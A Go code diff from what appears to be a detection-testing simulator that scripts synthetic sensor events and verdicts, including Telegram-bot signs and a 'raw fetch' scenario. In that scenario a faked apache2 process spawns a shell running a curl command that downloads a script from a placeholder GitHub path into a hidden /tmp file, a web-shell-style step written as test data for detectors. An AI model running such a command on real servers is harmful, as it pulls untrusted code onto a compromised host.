@@ -50,7 +50,11 @@ func (sc *script) validation(who part, analytic string, to place, title string, 
 		Host: g.vm.Host, Address: g.addr, Verdict: "unjustified", Reason: "no_role",
 	}
 	s.ID = slug(s.ID)
-	sc.publish(s, to, a)
+	told := s
+	if who == partBot {
+		told.Signs = []Sign{ruleTelegramName, habitClock}
+	}
+	sc.publish(told, to, a)
 	sc.sense(s, analytic, "sensor-"+string(who), title)
 	sc.sense(s, fusionAnalytic, "fusion-"+string(who), title+": its host and its sensor together")
 }
@@ -114,7 +118,7 @@ func (sc *script) telegramBot(g *guest, to place) {
 }
 
 func (sc *script) rawFetch(g *guest, to place) {
-	for i := range 4 {
+	for i := range 2 {
 		at := sc.clock(3, 10).Add(time.Duration(i) * 17 * time.Minute)
 		web := &process{pid: 902, path: "/usr/sbin/apache2", line: "/usr/sbin/apache2 -k start", user: "www-data"}
 		shell := g.linuxProcess(at, "/usr/bin/dash", []string{"sh", "-c", "curl -s https://raw.githubusercontent.com/x/y/main/s.sh -o /tmp/.s"}, web)
